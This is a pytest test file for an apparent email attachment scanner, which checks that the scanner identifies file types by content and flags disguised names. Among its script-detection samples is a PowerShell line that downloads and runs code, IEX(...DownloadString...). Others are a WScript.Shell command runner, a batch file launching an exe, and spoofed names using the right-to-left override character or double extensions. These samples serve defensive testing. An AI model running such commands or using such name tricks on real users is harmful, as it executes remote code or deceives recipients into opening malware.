"""What a file is, by its content; and what pretends to be something else."""

import gzip
import io
import tarfile
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailward.rules import Content, Disguise
from mailward.scan.kinds import disguises, extension, kinds
from mailward.scan.part import Part, Role
from mailward.testing import inert_executable

PROGRAM = inert_executable()


def part(data: bytes, name: str = "", content_type: str = "", role: Role = Role.ATTACHMENT) -> Part:
    return Part("message/2", data, role, name, content_type, 1)


def zipped(*names: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, b"content of " + name.encode())
    return file.getvalue()


def tarred() -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(tarfile.TarInfo("a.txt"))
    return file.getvalue()


def compound_file(*streams: str) -> bytes:
    names = b"".join(name.encode("utf-16-le") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + names


DOCX = ("[Content_Types].xml", "word/document.xml")
MSI = bytes.fromhex("84100c0000000000c000000000000046")
C = Content


@pytest.mark.parametrize(
    ("data", "name", "is_"),
    [
        (PROGRAM, "", (C.EXECUTABLE,)),
        (b"\x7fELF" + bytes(60), "picture.png", (C.EXECUTABLE,)),
        (b"\xcf\xfa\xed\xfe" + bytes(60), "", (C.EXECUTABLE,)),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), "", (C.EXECUTABLE,)),
        (b"MZ is how this letter begins, and it goes on.", "", (C.TEXT,)),
        (zipped("META-INF/MANIFEST.MF", "A.class"), "", (C.EXECUTABLE, C.ARCHIVE)),
        (zipped("AndroidManifest.xml", "classes.dex"), "", (C.INSTALLER,)),
        (zipped("a.txt"), "", (C.ARCHIVE,)),
        (PROGRAM + zipped("a.txt"), "", (C.EXECUTABLE, C.ARCHIVE)),
        (gzip.compress(b"x"), "", (C.ARCHIVE,)),
        (tarred(), "", (C.ARCHIVE,)),
        (b"\x28\xb5\x2f\xfd" + bytes(20), "", (C.ARCHIVE,)),
        (bytes(0x8001) + b"CD001" + bytes(5000), "", (C.DISK_IMAGE,)),
        (zipped(*DOCX), "a.zip", (C.OFFICE,)),
        (zipped(*DOCX, "word/vbaProject.bin"), "a.docx", (C.OFFICE, C.OFFICE_MACRO)),
        (zipped(*DOCX, "xl/macrosheets/sheet1.xml"), "", (C.OFFICE, C.OFFICE_MACRO)),
        (zipped("META-INF/manifest.xml", "Basic/script-lc.xml"), "", (C.OFFICE, C.OFFICE_MACRO)),
        (compound_file("WordDocument"), "", (C.OFFICE,)),
        (compound_file("Macros", "_VBA_PROJECT"), "", (C.OFFICE, C.OFFICE_MACRO)),
        (compound_file() + MSI, "", (C.OFFICE, C.INSTALLER)),
        (b"%PDF-1.7\n%\xe2\xe3\n", "", (C.PDF,)),
        (b"\0\0junk in front\n%PDF-1.7\n%\xe2\xe3\n", "", (C.PDF,)),
        (b"{\\rtf1 text}", "", (C.RTF,)),
        (b" \r\n{\\rtf1 text}", "a.doc", (C.TEXT, C.RTF)),
        (b"<html><body>hello</body></html>", "a.html", (C.HTML,)),
        (b"<svg xmlns='http://www.w3.org/2000/svg'></svg>", "a.svg", (C.SVG,)),
        (b"\x89PNG\r\n\x1a\n" + bytes(30), "", (C.IMAGE,)),
        (b"RIFF\x10\0\0\0WEBPVP8 ", "", (C.IMAGE,)),
        (b"ID3\x03" + bytes(30), "", (C.MEDIA,)),
        (b"ITSF\x03" + bytes(30), "", (C.HELP,)),
        (b"[InternetShortcut]\r\nURL=file://x/y\r\n", "a.url", (C.SHORTCUT,)),
        (b"L\0\0\0\x01\x14\x02" + bytes(5) + b"\xc0" + bytes(6) + b"F", "", (C.SHORTCUT,)),
        (b"plain words\r\n", "a.txt", (C.TEXT,)),
        (b"", "a.txt", (C.TEXT,)),
        (b"\x01\x02\x03\x00\xff\x01\x00\x03", "", (C.UNKNOWN,)),
    ],
)  # fmt: skip
def test_what_a_file_is(data: bytes, name: str, is_: tuple[Content, ...]) -> None:
    assert kinds(part(data, name)) == is_


@pytest.mark.parametrize(
    "text",
    [
        'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");',
        "On Error Resume Next\r\nx = 1\r\n",
        "@echo off\r\nstart x.exe\r\n",
        "IEX(New-Object Net.WebClient).DownloadString('http://example.org')",
        "#!/bin/sh\nrm -r x\n",
        '<?xml version="1.0"?><package><job id="a"><script language="JScript">x</script></job>',
        "<html><head><HTA:APPLICATION id=a></head></html>",
        "document.write('<html>'); var a = function() { eval(x) }",
        "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]\r\n",
        "x" * 200_000 + "\nvar w = WScript.CreateObject('a')",
    ],
)
def test_a_script_is_known_by_its_wording(text: str) -> None:
    assert Content.SCRIPT in kinds(part(text.encode(), "notes.txt"))
    assert Content.SCRIPT in kinds(part(text.encode("utf-16"), "notes.txt"))


def test_a_text_that_would_be_run_by_its_name_is_a_script() -> None:
    assert kinds(part(b"x=1", "a.js")) == (Content.SCRIPT,)
    assert kinds(part(b"x=1", "a.vbs. ")) == (Content.SCRIPT,)


@pytest.mark.parametrize(
    "text",
    [
        "Please run powershell and tell us what it says.",
        "const is a keyword; a function (of x) is drawn below.",
        '{"url": "https://www.example.org/", "function": "none"}',
        "<html><script>var a = 1; function f() { eval(a) }</script></html>",
    ],
)
def test_prose_and_pages_are_no_scripts(text: str) -> None:
    assert Content.SCRIPT not in kinds(part(text.encode(), "notes.txt"))


def test_scripts_in_pages_and_bodies_are_not_counted() -> None:
    script = b"var s = new ActiveXObject('WScript.Shell')"

    assert kinds(part(script, "", "text/javascript", Role.MEMBER)) == (Content.TEXT,)
    assert kinds(part(script, "", "text/plain", Role.BODY)) == (Content.TEXT,)


@pytest.mark.parametrize(
    ("name", "content_type", "data", "how"),
    [
        ("invoice.pdf", "", PROGRAM, {Disguise.EXTENSION}),
        ("invoice.pdf.", "", PROGRAM, {Disguise.EXTENSION}),
        ("a.exe", "image/png", PROGRAM, {Disguise.TYPE}),
        ("a.exe", "text/plain", PROGRAM, {Disguise.TYPE}),
        ("invoice.pdf.exe", "", PROGRAM, {Disguise.DOUBLE_EXTENSION}),
        ("invoice.pdf" + " " * 80 + ".scr", "", b"x", {Disguise.DOUBLE_EXTENSION}),
        ("invoice\u202efdp.exe", "", PROGRAM, {Disguise.REVERSED_NAME}),
        ("a.docx", "", b"@echo off\r\nstart x.exe", {Disguise.EXTENSION}),
        ("report.final.pdf", "application/pdf", b"%PDF-1.4 ", set()),
        ("a.exe", "application/octet-stream", PROGRAM, set()),
        ("notes.txt", "text/plain", b"@echo off\r\nstart x.exe", set()),
        ("self-extracting.zip", "", PROGRAM + zipped("a"), set()),
        ("archive.tar.gz", "", gzip.compress(b"x"), set()),
        ("פגישה\u202b.txt", "text/plain", b"hello", set()),
        ("www.example.com", "", b"hello", set()),
    ],
)
def test_what_pretends_to_be_harmless(
    name: str, content_type: str, data: bytes, how: set[Disguise]
) -> None:
    one = part(data, name, content_type)

    assert set(disguises(one, kinds(one))) == how


def test_an_extension_is_what_windows_takes_for_one() -> None:
    assert [extension(n) for n in ("a.EXE", "a.exe. .", "a.b.c", "exe", ".exe", "")] == [
        "exe", "exe", "c", "", "exe", ""
    ]  # fmt: skip


@given(
    start=st.sampled_from([b"", b"MZ", b"PK\x03\x04", b"%PDF-", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
                           b"<", b"{\\rt", b"\xff\xfe", b"#!"]),
    rest=st.binary(max_size=600),
    name=st.text(max_size=20),
)  # fmt: skip
def test_anything_at_all_is_something(start: bytes, rest: bytes, name: str) -> None:
    one = part(start + rest, name)

    assert kinds(one)
    disguises(one, kinds(one))
